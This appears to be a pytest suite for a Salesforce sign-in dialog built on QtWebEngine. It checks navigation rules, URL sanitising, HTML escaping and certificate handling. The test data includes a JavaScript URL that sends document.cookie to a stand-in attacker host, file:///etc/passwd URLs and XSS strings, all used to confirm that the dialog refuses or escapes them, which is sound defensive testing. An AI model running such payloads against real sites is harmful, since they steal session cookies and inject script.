"""The sign-in dialog's controls and the sign-in page's navigation rules, with the real QtWebEngine."""

from __future__ import annotations

import datetime
import http.server
import ipaddress
import json
import logging
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import shiboken6
from PySide6.QtCore import QCoreApplication, QPoint, QSize, Qt, QUrl
from PySide6.QtGui import QDesktopServices, QKeySequence
from PySide6.QtWidgets import QApplication, QInputDialog, QLabel, QMessageBox, QPushButton, QWidget
from pytestqt.qtbot import QtBot

from desktop_app.auth.errors import AuthError
from desktop_app.auth.hosts import PRODUCTION, SANDBOX
from desktop_app.auth.request import AuthorizeRequest, Flow
from desktop_app.demo_org import DemoOrg
from desktop_app.ui.app.tasks import TaskRunner
from desktop_app.ui.shared import dialogs
from desktop_app.ui.signin.browser import new_sign_in_profile
from desktop_app.ui.signin.callbackpage import CallbackInterceptingPage
from desktop_app.ui.signin.signindialog import DEFAULT_SIZE, LoginHostChoice, SignInDialog
from desktop_app.ui.signin.urls import error_page_html, host_mark, lands_outside_sign_in, safe_url_text

# QtWebEngine wants shared OpenGL contexts chosen before the QApplication exists, as the app does at start-up.
QCoreApplication.setAttribute(Qt.ApplicationAttribute.AA_ShareOpenGLContexts)

pytestmark = pytest.mark.qt_log_ignore(
    # QtWebEngine offscreen finds neither OpenGL nor Vulkan on a test machine and renders in software; it
    # says so at warning level when its first page is created.
    "Failed to create RHI for backend",
    "QVulkanInstance: Failed to initialize Vulkan",
    "GBM is not supported",
)

TIMEOUT = 20_000
ASK_AGAIN_AFTER = 0.5  # seconds
NAV = CallbackInterceptingPage.NavigationType
CONTROLS = (
    "hostPicker",
    "addHostButton",
    "removeHostButton",
    "flowPicker",
    "addressLine",
    "securityMark",
    "loadProgress",
    "messageLabel",
    "pkceButton",
    "retryButton",
    "startOverButton",
    "backButton",
    "reloadButton",
    "cancelButton",
    "statusLabel",
    "busyIndicator",
)


def closed_port() -> int:
    """A loopback port nothing listens on."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def button(dialog: SignInDialog, name: str) -> QPushButton:
    """One of the dialog's buttons, by object name."""
    found = dialog.findChild(QPushButton, name)
    assert isinstance(found, QPushButton)
    return found


@pytest.fixture
def tasks(qtbot: QtBot) -> Iterator[TaskRunner]:
    """Background tasks for the dialog, joined after the test."""
    runner = TaskRunner()
    yield runner
    assert runner.wait(20_000)


WELL_KNOWN = [
    LoginHostChoice("Production (login.salesforce.com)", PRODUCTION),
    LoginHostChoice("Sandbox (test.salesforce.com)", SANDBOX),
]


@pytest.fixture
def make_dialog(qtbot: QtBot, tasks: TaskRunner) -> Iterator[Callable[..., SignInDialog]]:
    """Sign-in dialogs, closed and deleted after the test (their pages before their profiles)."""
    dialogs: list[SignInDialog] = []

    def make(**options: Any) -> SignInDialog:
        settings: dict[str, Any] = {"hosts": WELL_KNOWN, "client_id": "3MVG9ExampleClientId", "tasks": tasks}
        dialog = SignInDialog(**{**settings, **options})
        dialogs.append(dialog)
        return dialog

    yield make
    for dialog in dialogs:
        if shiboken6.isValid(dialog):
            dialog.close()
            dialog.deleteLater()
    qtbot.wait_until(lambda: not any(shiboken6.isValid(d) for d in dialogs), timeout=5_000)


def on_demo(demo: DemoOrg) -> dict[str, Any]:
    """Options for a dialog that opens the demo org's login page."""
    return {"hosts": [LoginHostChoice("Demo org", demo.login_url), *WELL_KNOWN], "client_id": demo.client_id}


def run_js(qtbot: QtBot, dialog: SignInDialog, script: str) -> Any:
    """Run script in the dialog's page; None when the page went away before answering."""
    page = dialog.browser.page
    assert page is not None
    results: list[Any] = []
    page.runJavaScript(script, 0, results.append)
    qtbot.wait_until(lambda: bool(results) or dialog.browser.page is not page, timeout=TIMEOUT)
    return results[0] if results else None


def wait_for_page(
    qtbot: QtBot, dialog: SignInDialog, ask: Callable[[Any, Callable[[Any], None]], None]
) -> None:
    """Wait until ask(page, reply) replies with something true for the page on screen."""
    state: dict[str, Any] = {"ticket": 0, "asked": 0.0, "answer": None}

    def check() -> bool:
        page = dialog.browser.page
        # A reply is lost when the document changes under it: a question left unanswered is asked again.
        if page is not None and time.monotonic() - state["asked"] > ASK_AGAIN_AFTER:
            state["ticket"] += 1
            state["asked"] = time.monotonic()

            def answered(answer: Any, ticket: int = state["ticket"]) -> None:
                if ticket == state["ticket"]:
                    state.update(answer=answer, asked=0.0)

            ask(page, answered)
        return bool(state["answer"])

    qtbot.wait_until(check, timeout=TIMEOUT)


def wait_for_login_form(qtbot: QtBot, dialog: SignInDialog) -> None:
    """Wait until the demo login form is on screen."""
    script = "document.readyState === 'complete' && !!document.getElementById('username')"
    wait_for_page(qtbot, dialog, lambda page, reply: page.runJavaScript(script, 0, reply))


def wait_for_html(qtbot: QtBot, dialog: SignInDialog, text: str) -> None:
    """Wait until the HTML of the page on screen contains text."""
    wait_for_page(qtbot, dialog, lambda page, reply: page.toHtml(lambda html: reply(text in html)))


# ----- what loads when


def test_the_dialog_modules_load_without_qtwebengine() -> None:
    # The app starts without QtWebEngine: only building a dialog loads it.
    code = (
        "import sys\n"
        "import desktop_app.ui.signin.hostpicker, desktop_app.ui.signin.urls, desktop_app.ui.signin.message\n"
        "from desktop_app.ui.signin.signindialog import LoginHostChoice, SignInDialog\n"
        "print(','.join(sorted(m for m in sys.modules if m.startswith('PySide6.QtWebEngine'))))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60)
    assert out.stdout.strip() == ""


# ----- pure helpers


def test_host_mark_says_whether_the_connection_is_encrypted() -> None:
    assert host_mark("https://login.salesforce.com") == "🔒 login.salesforce.com"
    assert host_mark("http://127.0.0.1:1234") == "⚠ 127.0.0.1:1234 (local, not encrypted)"
    assert host_mark("https://acme.my.salesforce.com:8443") == "🔒 acme.my.salesforce.com:8443"


def test_safe_url_text_drops_query_fragment_and_opaque_content() -> None:
    assert safe_url_text("https://u:p@acme.example/a/b?token=x#frag") == "https://acme.example/a/b"
    assert safe_url_text(QUrl("file:///etc/passwd?secret=1")) == "file:///etc/passwd"
    assert safe_url_text("javascript:alert(document.cookie)") == "javascript:…"
    assert safe_url_text("data:text/html,<b>secret</b>") == "data:…"


def test_landing_outside_the_sign_in_is_told_apart_from_sign_in_pages() -> None:
    host = "https://login.salesforce.com"
    assert not lands_outside_sign_in(f"{host}/", host)
    assert not lands_outside_sign_in(f"{host}/services/oauth2/authorize?x=1", host)
    assert not lands_outside_sign_in("https://acme.my.salesforce.com/_ui/identity/verification/x", host)
    assert not lands_outside_sign_in("https://idp.example.com/home", host)  # single sign-on
    assert lands_outside_sign_in("https://acme.my.salesforce.com/home/home.jsp", host)
    assert lands_outside_sign_in("https://acme.lightning.force.com/lightning/page/home", host)


def test_error_page_escapes_everything() -> None:
    page = error_page_html("<script>alert(1)</script>", 'a "quoted" <img src=x onerror=alert(2)> & more')
    assert "<script>alert(1)" not in page
    assert "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&quot;quoted&quot;" in page
    assert "&amp; more" in page


def test_only_hosts_not_well_known_are_removable_unless_marked() -> None:
    assert not LoginHostChoice("Production", PRODUCTION).removable
    assert not LoginHostChoice("Sandbox", SANDBOX).removable
    assert not LoginHostChoice("Demo org", "http://127.0.0.1:5000").removable
    assert LoginHostChoice("acme", "https://acme.my.salesforce.com").removable
    assert LoginHostChoice("local", "http://127.0.0.1:5000", custom=True).removable


# ----- the dialog's controls (no page is opened: the dialog is not shown)


def test_controls_are_named_and_sized(make_dialog: Callable[..., SignInDialog]) -> None:
    dialog = make_dialog()

    assert dialog.windowTitle() == "Sign in to Salesforce"
    assert dialog.size() == QSize(*DEFAULT_SIZE)
    assert dialog.minimumSizeHint().width() <= DEFAULT_SIZE[0]
    for name in CONTROLS:
        widget = dialog.findChild(QWidget, name)
        assert isinstance(widget, QWidget), name
        assert widget.accessibleName(), name
    for label in dialog.findChildren(QLabel):
        if label.objectName() in ("messageLabel", "statusLabel", "securityMark"):
            assert label.textFormat() is Qt.TextFormat.PlainText
    picker = dialog.findChild(QWidget, "hostPicker")
    assert [picker.itemData(i) for i in range(picker.count())] == [PRODUCTION, SANDBOX]  # type: ignore[attr-defined]
    assert dialog.selected_host == PRODUCTION
    assert dialog.selected_flow is Flow.USER_AGENT
    assert not button(dialog, "removeHostButton").isEnabled()
    assert dialog.cancel_action.shortcuts()[0].toString() == "Esc"
    assert {s.toString() for s in dialog.reload_action.shortcuts()} == {"Ctrl+R", "F5"}
    assert dialog.back_action.shortcuts()[0].toString() == "Alt+Left"


def test_default_flow_can_be_pkce(make_dialog: Callable[..., SignInDialog]) -> None:
    assert make_dialog(default_flow=Flow.PKCE).selected_flow is Flow.PKCE


def test_add_my_domain_normalizes_selects_and_reports(
    qtbot: QtBot, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog()

    with qtbot.wait_signal(dialog.custom_hosts_changed) as blocker:
        url = dialog.add_custom_host("  Acme.My.Salesforce.com/some/path ")

    assert url == "https://acme.my.salesforce.com"
    assert blocker.args == [["https://acme.my.salesforce.com"]]
    assert dialog.selected_host == url
    assert dialog.custom_hosts == [url]
    assert button(dialog, "removeHostButton").isEnabled()
    assert dialog.message == ""
    # Adding it again selects it without a second entry.
    dialog.add_custom_host("https://acme.my.salesforce.com")
    assert dialog.custom_hosts == [url]


@pytest.mark.parametrize(
    "text",
    ["not a host", "http://acme.my.salesforce.com", "ftp://acme.my.salesforce.com", "https://", "a..b"],
)
def test_add_my_domain_refuses_what_is_not_a_secure_host(
    qtbot: QtBot, make_dialog: Callable[..., SignInDialog], text: str
) -> None:
    dialog = make_dialog()

    with qtbot.assert_not_emitted(dialog.custom_hosts_changed):
        assert dialog.add_custom_host(text) is None

    assert "not a login address" in dialog.message
    assert dialog.custom_hosts == []
    assert dialog.selected_host == PRODUCTION


def test_add_my_domain_button_asks_for_the_address(
    qtbot: QtBot, make_dialog: Callable[..., SignInDialog], monkeypatch: pytest.MonkeyPatch
) -> None:
    dialog = make_dialog()
    answers = iter([("", False), ("acme--uat.sandbox.my.salesforce.com", True)])
    monkeypatch.setattr(QInputDialog, "getText", lambda *args, **kwargs: next(answers))
    add = button(dialog, "addHostButton")

    add.click()
    assert dialog.custom_hosts == []
    with qtbot.wait_signal(dialog.custom_hosts_changed):
        add.click()

    assert dialog.selected_host == "https://acme--uat.sandbox.my.salesforce.com"


def test_only_custom_hosts_can_be_removed(qtbot: QtBot, make_dialog: Callable[..., SignInDialog]) -> None:
    dialog = make_dialog(
        hosts=[*WELL_KNOWN, LoginHostChoice("acme.my.salesforce.com", "https://acme.my.salesforce.com")]
    )
    remove = button(dialog, "removeHostButton")
    assert not remove.isEnabled()
    with qtbot.assert_not_emitted(dialog.custom_hosts_changed):
        assert dialog.remove_selected_host() is False
    dialog.add_custom_host("globex.my.salesforce.com")
    assert remove.isEnabled()

    with qtbot.wait_signal(dialog.custom_hosts_changed) as blocker:
        remove.click()

    assert blocker.args == [["https://acme.my.salesforce.com"]]
    assert dialog.selected_host == PRODUCTION
    assert not remove.isEnabled()


def test_initial_host_is_selected_or_added(make_dialog: Callable[..., SignInDialog]) -> None:
    assert make_dialog(initial_host="test.salesforce.com").selected_host == SANDBOX
    dialog = make_dialog(initial_host="https://acme.my.salesforce.com/")
    assert dialog.selected_host == "https://acme.my.salesforce.com"
    assert dialog.custom_hosts == ["https://acme.my.salesforce.com"]
    assert make_dialog(initial_host="no such thing").selected_host == PRODUCTION


def test_without_a_client_id_the_dialog_says_so_and_loads_nothing(
    make_dialog: Callable[..., SignInDialog],
) -> None:
    dialog = make_dialog(client_id=" ")
    dialog.show()
    assert "client id" in dialog.message
    assert dialog.browser.page is None


# ----- the page and its rules


@pytest.fixture
def standalone_page(qtbot: QtBot, demo: DemoOrg) -> Iterator[CallbackInterceptingPage]:
    """A sign-in page outside any dialog, deleted (before its profile) afterwards."""
    profile = new_sign_in_profile()
    page = CallbackInterceptingPage(profile, AuthorizeRequest.new(demo.login_url, demo.client_id))
    yield page
    page.deleteLater()
    qtbot.wait_until(lambda: not shiboken6.isValid(page), timeout=5_000)
    profile.deleteLater()
    qtbot.wait_until(lambda: not shiboken6.isValid(profile), timeout=5_000)


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd?secret=abc#frag",
        "javascript:fetch('https://evil.example/?c='+document.cookie)",
        "data:text/html;base64,PGgxPmhpPC9oMT4=",
        "http://evil.example.com/login",
        "myapp://callback?code=xyz",
        "blob:https://acme.example/1234",
    ],
)
@pytest.mark.parametrize(
    "kind", [NAV.NavigationTypeTyped, NAV.NavigationTypeLinkClicked, NAV.NavigationTypeRedirect]
)
def test_page_refuses_and_logs_what_is_not_http(
    qtbot: QtBot,
    standalone_page: CallbackInterceptingPage,
    caplog: pytest.LogCaptureFixture,
    url: str,
    kind: CallbackInterceptingPage.NavigationType,
) -> None:
    caplog.set_level(logging.INFO, logger="connect.ui")

    with qtbot.wait_signal(standalone_page.navigation_refused) as blocker:
        assert standalone_page.acceptNavigationRequest(QUrl(url), kind, True) is False

    refusals = [r.getMessage() for r in caplog.records if "Refused" in r.getMessage()]
    assert len(refusals) == 1
    assert blocker.args == [safe_url_text(url)]
    for secret in ("secret", "frag", "cookie", "xyz", "PGgx"):
        assert secret not in caplog.text


@pytest.mark.parametrize(
    "url", ["https://login.salesforce.com/", "http://127.0.0.1:8080/x", "http://localhost/", "about:blank"]
)
def test_page_allows_https_and_loopback_http(standalone_page: CallbackInterceptingPage, url: str) -> None:
    assert standalone_page.acceptNavigationRequest(QUrl(url), NAV.NavigationTypeLinkClicked, True) is True


@pytest.mark.parametrize(
    "kind",
    [
        NAV.NavigationTypeRedirect,
        NAV.NavigationTypeLinkClicked,
        NAV.NavigationTypeTyped,
        NAV.NavigationTypeFormSubmitted,
        NAV.NavigationTypeOther,
    ],
)
def test_callback_is_never_loaded_and_reported_once(
    qtbot: QtBot,
    standalone_page: CallbackInterceptingPage,
    caplog: pytest.LogCaptureFixture,
    kind: CallbackInterceptingPage.NavigationType,
) -> None:
    caplog.set_level(logging.DEBUG)
    request = standalone_page.request
    callback = f"{request.redirect_uri}#access_token=00DSECRETTOKEN&state={request.state}"

    with qtbot.wait_signal(standalone_page.callback_reached) as blocker:
        assert standalone_page.acceptNavigationRequest(QUrl(callback), kind, True) is False
    with qtbot.assert_not_emitted(standalone_page.callback_reached):
        assert standalone_page.acceptNavigationRequest(QUrl(callback), kind, True) is False

    assert blocker.args == [callback]
    assert standalone_page.callback_seen
    assert "SECRETTOKEN" not in caplog.text
    assert request.state not in caplog.text


def test_a_real_file_navigation_is_refused(qtbot: QtBot, standalone_page: CallbackInterceptingPage) -> None:
    with qtbot.wait_signal(standalone_page.navigation_refused, timeout=TIMEOUT) as blocker:
        standalone_page.load(QUrl("file:///etc/hostname"))
    assert blocker.args == ["file:///etc/hostname"]
    assert standalone_page.url().scheme() != "file"


# ----- the dialog with the real QtWebEngine on the demo org


def test_address_bar_shows_host_only_with_a_mark(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    wait_for_login_form(qtbot, dialog)
    port = demo.login_url.rsplit(":", 1)[1]

    address = dialog.findChild(QWidget, "addressLine")
    mark = dialog.findChild(QLabel, "securityMark")
    assert address.text() == demo.login_url  # type: ignore[attr-defined]
    assert mark is not None
    assert mark.text() == f"⚠ 127.0.0.1:{port} (local, not encrypted)"
    page = dialog.browser.page
    assert page is not None
    assert "state=" in page.url().toString()  # the page is on the authorize URL; the bar shows none of it
    view = dialog.browser.view
    assert view is not None
    qtbot.wait_until(lambda: view.focusProxy().hasFocus(), timeout=TIMEOUT)


def click_new_window_link(qtbot: QtBot, dialog: SignInDialog, href: str) -> None:
    """Put a target=_blank link over the page's top-left corner and click it as a person would."""
    script = (
        f"var a = document.createElement('a'); a.href = {json.dumps(href)}; a.target = '_blank';"
        "a.textContent = 'help'; a.style = 'position:fixed;left:0;top:0;width:160px;height:60px;"
        "display:block;z-index:99999;background:#fff'; document.body.appendChild(a);"
        "a.getBoundingClientRect().width > 0"
    )
    assert run_js(qtbot, dialog, script) is True
    view = dialog.browser.view
    assert view is not None
    target = view.focusProxy() or view
    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(30, 20))


def test_only_a_clicked_https_link_leaves_the_view_and_only_when_the_person_agrees(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog], monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[QUrl] = []
    asked: list[str] = []
    answers = [QMessageBox.StandardButton.No, QMessageBox.StandardButton.Yes]
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(QUrl(url)) or True)
    monkeypatch.setattr(dialogs, "question", lambda _p, _t, text, *_a: asked.append(text) or answers.pop(0))
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    wait_for_login_form(qtbot, dialog)
    page = dialog.browser.page
    assert page is not None
    windows_before = set(QApplication.topLevelWidgets())

    # Script cannot open windows at all: no popup, no browser, no question.
    run_js(qtbot, dialog, "window.open('https://help.salesforce.example/forgot?who=me#top'); true")
    run_js(
        qtbot, dialog, "window.open('myapp://launch?x=1'); location.href = 'mailto:someone@example.com'; true"
    )
    callback = f"{demo.callback_url}#access_token=00D5g0000000001!AQpopup&state=x"
    run_js(qtbot, dialog, f"window.open({callback!r}); true")
    assert opened == []
    assert asked == []

    # A person's click on an https link asks first; "Stay Here" opens nothing.
    with qtbot.wait_signal(page.external_requested, timeout=TIMEOUT):
        click_new_window_link(qtbot, dialog, "https://help.salesforce.example/forgot?who=me#top")
    assert opened == []
    assert "help.salesforce.example/forgot" in asked[0]
    assert "who=me" not in asked[0], "the question shows no query or fragment"
    # Asked again and agreed: the system browser opens the link.
    with qtbot.wait_signal(page.external_opened, timeout=TIMEOUT) as blocker:
        click_new_window_link(qtbot, dialog, "https://help.salesforce.example/forgot?who=me#top")
    assert [u.toString() for u in opened] == ["https://help.salesforce.example/forgot?who=me#top"]
    assert blocker.args == ["https://help.salesforce.example/forgot"]

    # A plain-http link is refused even when clicked.
    with qtbot.wait_signal(page.navigation_refused, timeout=TIMEOUT):
        click_new_window_link(qtbot, dialog, "http://help.example/plain")
    assert len(opened) == 1
    assert set(QApplication.topLevelWidgets()) == windows_before
    assert dialog.browser.page is page


def test_unreachable_host_shows_our_error_page_and_retry(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    host = f"127.0.0.1:{closed_port()}"
    retry = button(dialog, "retryButton")

    dialog.add_custom_host(f"http://{host}")

    qtbot.wait_until(lambda: retry.isVisibleTo(dialog), timeout=TIMEOUT)
    assert dialog.message.startswith(f"Can't reach {host}.")
    assert dialog.browser.showing_local_page
    wait_for_html(qtbot, dialog, f"Can't reach {host}")
    first = dialog.browser.request
    assert first is not None

    with qtbot.wait_signal(dialog.browser.problem, timeout=TIMEOUT):
        retry.click()

    assert dialog.browser.request is not None
    assert dialog.browser.request.state != first.state
    # Reloading our error page starts over too, from either key.
    for key in (QKeySequence("Ctrl+R"), QKeySequence(Qt.Key.Key_F5)):
        before = dialog.browser.request
        with qtbot.wait_signal(dialog.browser.problem, timeout=TIMEOUT):
            qtbot.keySequence(dialog, key)
        assert dialog.browser.request is not None
        assert dialog.browser.request is not before


@pytest.fixture
def https_server(tmp_path: Path) -> Iterator[str]:
    """An https server on loopback with a self-signed certificate nobody trusts."""
    crypto = pytest.importorskip("cryptography")
    assert crypto
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False
        )
        .sign(key, hashes.SHA256())
    )
    cert_file, key_file = tmp_path / "cert.pem", tmp_path / "key.pem"
    cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_file.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert_file, key_file)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"https://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join(5)
        server.server_close()


def test_untrusted_certificate_is_refused_with_our_error_page(
    qtbot: QtBot, https_server: str, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog(hosts=[LoginHostChoice("Untrusted", https_server, custom=True)])
    mark = dialog.findChild(QLabel, "securityMark")

    with qtbot.wait_signal(dialog.browser.problem, timeout=TIMEOUT) as blocker:
        dialog.show()

    assert blocker.args[1] is True  # retry offered
    assert "is not secure" in dialog.message
    assert button(dialog, "retryButton").isVisibleTo(dialog)
    wait_for_html(qtbot, dialog, "is not secure")
    assert mark is not None
    assert mark.text().startswith("🔒 127.0.0.1:")


def test_server_text_is_shown_as_plain_text(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    wait_for_login_form(qtbot, dialog)
    request = dialog.browser.request
    assert request is not None
    fields = {"error": "server_error", "error_description": "<b>Down</b> <img src=x>", "state": request.state}

    with qtbot.wait_signal(dialog.failed, timeout=TIMEOUT) as blocker:
        run_js(qtbot, dialog, f"location.href = {request.redirect_uri + '#' + urlencode(fields)!r}; true")

    error = blocker.args[0]
    assert isinstance(error, AuthError)
    assert "<b>Down</b> <img src=x>" in dialog.message
    label = dialog.findChild(QLabel, "messageLabel")
    assert label is not None
    assert label.textFormat() is Qt.TextFormat.PlainText
    assert not button(dialog, "pkceButton").isVisibleTo(dialog)
    assert button(dialog, "startOverButton").isVisibleTo(dialog)


def test_escape_cancels_and_deletes_page_then_profile(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    page, profile = dialog.browser.page, dialog.browser.profile
    assert page is not None
    assert profile is not None
    page_alive_when_profile_died: list[bool] = []
    profile.destroyed.connect(lambda: page_alive_when_profile_died.append(shiboken6.isValid(page)))

    view = dialog.browser.view
    assert view is not None
    wait_for_login_form(qtbot, dialog)
    qtbot.wait_until(lambda: view.focusProxy().hasFocus(), timeout=TIMEOUT)

    with qtbot.wait_signal(dialog.cancelled):
        qtbot.keyClick(view.focusProxy(), Qt.Key.Key_Escape)  # typed while in the sign-in form

    assert not dialog.isVisible()
    qtbot.wait_until(lambda: not shiboken6.isValid(profile), timeout=5_000)
    assert page_alive_when_profile_died == [False]


def test_cancel_button_cancels(qtbot: QtBot, make_dialog: Callable[..., SignInDialog]) -> None:
    dialog = make_dialog(client_id="")
    dialog.show()
    with qtbot.wait_signal(dialog.cancelled):
        button(dialog, "cancelButton").click()
    assert dialog.result() == dialog.DialogCode.Rejected


def test_back_returns_to_the_previous_page(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog]
) -> None:
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    wait_for_login_form(qtbot, dialog)
    page, view = dialog.browser.page, dialog.browser.view
    assert page is not None
    assert view is not None
    back = button(dialog, "backButton")
    assert not back.isEnabled()
    # Chromium skips history entries nobody interacted with, so the way out is a real click on a link.
    target = demo.orgs[0].instance_url + "/services/data/"
    box_json = run_js(
        qtbot,
        dialog,
        f"""(() => {{ const a = document.createElement('a'); a.id = 'away'; a.href = {target!r};
        a.textContent = 'Somewhere else'; a.style = 'position:fixed;left:10px;top:10px;padding:8px';
        document.body.appendChild(a); const r = a.getBoundingClientRect();
        return JSON.stringify([r.left + r.width / 2, r.top + r.height / 2]); }})()""",
    )
    box = json.loads(box_json)
    with qtbot.wait_signal(page.loadFinished, timeout=TIMEOUT):
        qtbot.mouseClick(view.focusProxy(), Qt.MouseButton.LeftButton, pos=QPoint(int(box[0]), int(box[1])))
    assert page.url().toString() == target
    qtbot.wait_until(back.isEnabled, timeout=TIMEOUT)

    qtbot.keySequence(dialog, QKeySequence("Alt+Left"))

    qtbot.wait_until(lambda: page.url().path() == "/services/oauth2/authorize", timeout=TIMEOUT)
    wait_for_login_form(qtbot, dialog)


# ----- the warm-up before a likely sign-in


def test_a_warm_up_starts_the_web_engine_and_opens_no_page(qtbot: QtBot) -> None:
    from PySide6.QtWebEngineCore import QWebEngineProfile
    from PySide6.QtWebEngineWidgets import QWebEngineView

    from desktop_app.ui.signin.warmup import warm_up_web_engine

    warm_up_web_engine()
    assert QWebEngineProfile.defaultProfile().isOffTheRecord()
    assert not [w for w in QApplication.allWidgets() if isinstance(w, QWebEngineView)]


def test_after_a_warm_up_each_sign_in_still_gets_a_fresh_profile_of_its_own(
    qtbot: QtBot, demo: DemoOrg, make_dialog: Callable[..., SignInDialog]
) -> None:
    from PySide6.QtWebEngineCore import QWebEngineProfile

    from desktop_app.ui.signin.warmup import warm_up_web_engine

    warm_up_web_engine()
    default = shiboken6.getCppPointer(QWebEngineProfile.defaultProfile())[0]
    dialog = make_dialog(**on_demo(demo))
    dialog.show()
    wait_for_login_form(qtbot, dialog)
    first = dialog.browser.profile
    assert first is not None
    assert first.isOffTheRecord()
    assert shiboken6.getCppPointer(first)[0] != default
    first_pointer = shiboken6.getCppPointer(first)[0]
    dialog.start()  # start over: a new attempt
    wait_for_login_form(qtbot, dialog)
    second = dialog.browser.profile
    assert second is not None
    assert second.isOffTheRecord()
    assert shiboken6.getCppPointer(second)[0] not in (default, first_pointer)
